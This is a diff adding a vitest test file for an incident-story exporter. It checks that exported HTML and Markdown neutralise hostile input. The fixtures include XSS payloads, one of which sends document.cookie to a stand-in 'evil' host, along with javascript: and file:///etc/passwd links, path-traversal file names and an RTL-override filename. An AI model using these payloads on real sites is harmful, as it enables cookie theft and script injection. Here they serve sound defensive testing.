@@ -1,0 +1,130 @@
+import { createHash } from 'node:crypto'
+import { Window } from 'happy-dom'
+import { describe, expect, test } from 'vitest'
+import { storyFile, storyFolder } from '@/lib/share/story-file'
+import { fileName } from '@/lib/story/file-name'
+import { codeSpan, fenced, guardLines, markdownText } from '@/lib/story/markdown-text'
+import { readable, safeLink } from '@/lib/story/foreign'
+import { incident } from '@/tests/fixtures/incident'
+
+const HOSTILE = [
+  `<img src=x onerror=fetch('//evil/'+document.cookie)>`,
+  '</script><script>alert(1)</script>',
+  '</title><svg/onload=alert(1)>',
+  '<!--<script>',
+  '--> {{constructor.constructor("alert(1)")()}} ${7*7}',
+  '</style><base href=http://evil/>',
+  '" onclick="alert(1)',
+  '\u2028\u2029\u0000\uD800\uFEFF',
+  'report\u202Efdp.exe',
+  `a${'\u0301'.repeat(5_000)}`,
+]
+const { whole, pictures } = incident()
+
+/** Every text of the trail is hostile, and every link. */
+const poisoned = (text: string, url: string): typeof whole => {
+  const foreign = ['title', 'text', 'question', 'because', 'panel', 'unpinned', 'missed']
+  const change = (key: string, value: unknown): unknown => {
+    if (typeof value !== 'string') return value
+    if (key === 'name') return text.slice(0, 100)
+    if (foreign.includes(key)) return text.slice(0, 1_000)
+    return ['url', 'pinned', 'link'].includes(key) ? url : value
+  }
+  return JSON.parse(JSON.stringify(whole), change) as typeof whole
+}
+const parsed = (html: string) => {
+  const window = new Window({ settings: { disableJavaScriptEvaluation: true, disableCSSFileLoading: true } })
+  return new window.DOMParser().parseFromString(html, 'text/html')
+}
+
+test.each(HOSTILE)('%j stays text in the exported page', (text) => {
+  const document = parsed(storyFile(poisoned(text, 'javascript:alert(1)'), pictures, { zone: 'UTC' }))
+  const scripts = [...document.querySelectorAll('script')]
+  expect(scripts.map((script) => [script.getAttribute('type'), script.id])).toEqual([
+    ['application/json', 'overshoulder-trail'],
+  ])
+  const attributes = [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes])
+  expect(attributes.filter(({ name }) => name.startsWith('on') || name === 'style')).toEqual([])
+  expect(document.querySelectorAll('base, iframe, object, embed, svg, form, link, a').length).toBe(0)
+  expect(document.querySelectorAll('style')).toHaveLength(1)
+})
+
+test('the page allows its own style sheet and nothing else', () => {
+  const html = storyFile(whole, pictures, { zone: 'UTC' })
+  const document = parsed(html)
+  const policy = document.querySelector('meta[http-equiv]')?.getAttribute('content')
+  const style = /<style>(.*?)<\/style>/s.exec(html)?.[1] ?? ''
+  const hash = createHash('sha256').update(style).digest('base64')
+  expect(policy).toBe(
+    `default-src 'none'; img-src data:; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'`,
+  )
+  for (const link of document.querySelectorAll('a')) {
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc')
+    expect(link.getAttribute('href')).toMatch(/^https?:\/\//)
+  }
+  expect(
+    [...document.querySelectorAll('img')].every((image) => (image.getAttribute('alt') ?? '') !== ''),
+  ).toBe(true)
+})
+
+test('the story tells its path by itself', () => {
+  const text = parsed(storyFile(whole, pictures, { zone: 'UTC' })).querySelector('main')?.textContent ?? ''
+  for (const said of [
+    '15 looks · 6 snapshots · 2 tools · 2 dead ends · 3 people · 36 min',
+    'How did you figure out what the problem was?',
+    'Mara Lindqvist and Tom Okafor looked at Grafana and Prometheus.',
+    'panel 27 of 42, row 13 of 21',
+    'Reopened: Is a service failing its requests? — inbound is flat, but nobody has looked at outbound. Tom Okafor',
+    'Dead end: Was it the 21:04 deploy of api? — eu-west-1 got the same version',
+    'The longest quiet between two steps was 8 min 20 s',
+  ])
+    expect(text).toContain(said)
+})
+
+test.each([
+  ['javascript:alert(1)', null],
+  ['\u0001java\tscript:alert(1)', null],
+  ['data:text/html,<script>', null],
+  ['file:///etc/passwd', null],
+  ['https://grafana.example.com@evil.example/', null],
+  ['//evil', null],
+  [String.raw`https:\\evil.example`, 'https://evil.example/'],
+  ['http://0x7f.1/', 'http://127.0.0.1/'],
+])('%j becomes the link %j', (url, href) => {
+  expect(safeLink(url)).toBe(href)
+})
+
+test('what turns or hides is shown or gone', () => {
+  expect(readable('a\u202Eb\u0000c\uD800d\uFEFF\u2028e')).toBe('a⟪U+202E⟫bc\uFFFDd\ne')
+})
+
+describe('Markdown', () => {
+  test.each([
+    ['](javascript:alert(1))', String.raw`\]\(javascript:alert\(1\)\)`],
+    ['![](https://evil/pixel.png)', String.raw`\!\[\]\(` + '`https://evil/pixel.png)`'],
+    ['<details> | <!-- x -->', String.raw`\<details\> \| \<\!-- x --\>`],
+    ['@org/team and @here', '@\u200Borg/team and @\u200Bhere'],
+    ['Fixes org/repo#1, GH-2', 'Fixes org/repo\\#\u200B1, GH-\u200B2'],
+    ['{code} [[page]] &lt;', String.raw`\{code\} \[\[page\]\] &amp;lt;`],
+  ])('%j calls nobody and closes nothing', (text, said) => {
+    expect(markdownText(text)).toBe(said)
+  })
+  test('quick actions and lists at the start of a line are text', () => {
+    expect(guardLines('/close\n- a\n1. b')).toBe('\\/close\n\\- a\n1\\. b')
+  })
+  test('no run of backticks ends a query', () => {
+    expect(fenced('a ``` b')).toBe('````\na ``` b\n````')
+    expect(codeSpan('`a`')).toBe('`` `a` ``')
+  })
+  test('names every picture by our own id', () => {
+    const { markdown, files } = storyFolder(whole, pictures, { zone: 'UTC' })
+    expect([...files.keys()]).toEqual([...pictures.keys()].map((id) => `pictures/${id}.png`))
+    for (const name of files.keys()) expect(markdown).toContain(`](${name})`)
+  })
+})
+
+test('file names come of ids, never of titles', () => {
+  expect(fileName(poisoned(String.raw`..\..\CON`, ''), 'html')).toBe(
+    'overshoulder-2026-11-22-trail-smart-tv.html',
+  )
+})
